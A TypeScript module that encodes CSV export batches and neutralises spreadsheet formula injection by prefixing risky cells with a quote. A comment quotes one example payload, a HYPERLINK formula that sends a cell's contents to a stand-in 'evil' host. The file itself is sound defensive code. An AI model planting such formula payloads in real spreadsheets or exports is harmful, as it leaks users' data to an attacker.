// The CPU of a CSV build, per batch: masks, fingerprint, CSV text, UTF-8 bytes. The build process runs it on its main
// thread and in encoder threads (encode-in-order.ts); both run exactly this function, so a batch's bytes are the same
// whichever thread made them.
import { stringify } from "csv-stringify/sync";
import { exportFingerprint } from "../fingerprint";
import { batchTransformer, filePlan } from "./file-plan";
import type { FileExport } from "./write-files";

/** One batch of the file: its bytes and how many data rows they hold. */
export interface EncodedBatch {
  bytes: Uint8Array;
  rows: number;
}

/**
 * CSV injection (OWASP): a spreadsheet runs a cell that starts with = @ + - (or a tab or CR before one) as a formula, and
 * warehouse values come from marketplace users (a name like `=HYPERLINK("https://evil/?"&A1)`). Such a cell gets a
 * leading `'`, which spreadsheets show as text. Numbers and phone-like text starting with + or - (`+1 415 555 0123`,
 * `-15000`) stay as they are, so ordinary values are never changed; masked values never start with these characters
 * except the masked phone's `+•…`, which is phone-like.
 */
export function neutraliseFormula(value: string): string {
  const c = value.charCodeAt(0);
  // = @ TAB CR
  if (c === 61 || c === 64 || c === 9 || c === 13) return `'${value}`;
  // + -
  if ((c === 43 || c === 45) && !PHONE_OR_NUMBER.test(value)) return `'${value}`;
  return value;
}

const PHONE_OR_NUMBER = /^[+-][0-9\u2022 ().-]*$/;

// RFC 4180 line ends. Formula cells are neutralised before (csvBytes): csv-stringify's cast, one call per string cell,
// cost a tenth of a build.
const CSV_OPTS = { record_delimiter: "\r\n" } as const;

/**
 * CSV records (RFC 4180, every string cell that starts like a formula neutralised, in place) as UTF-8 bytes in a
 * buffer of their own (transferable).
 */
export function csvBytes(rows: unknown[][]): Uint8Array {
  for (const row of rows) {
    for (let i = 0; i < row.length; i++) {
      const v = row[i];
      if (typeof v !== "string") continue;
      // Only = @ + - TAB CR can start a formula; anything else is left as it is without a call.
      const c = v.charCodeAt(0);
      if (c === 61 || c === 64 || c === 43 || c === 45 || c === 9 || c === 13) row[i] = neutraliseFormula(v);
    }
  }
  return encoder.encode(stringify(rows, CSV_OPTS));
}

const encoder = new TextEncoder();

/** The export's batch encoder: streamed rows (streamColumns' order) in, the file's bytes for them out. */
export function csvBatchEncoder(exp: FileExport): (batch: unknown[][]) => EncodedBatch {
  const plan = filePlan(exp);
  const transform = batchTransformer(exp, plan, exportFingerprint(exp, plan.fileColumns));
  return (batch) => {
    transform(batch);
    return { bytes: csvBytes(batch), rows: batch.length };
  };
}
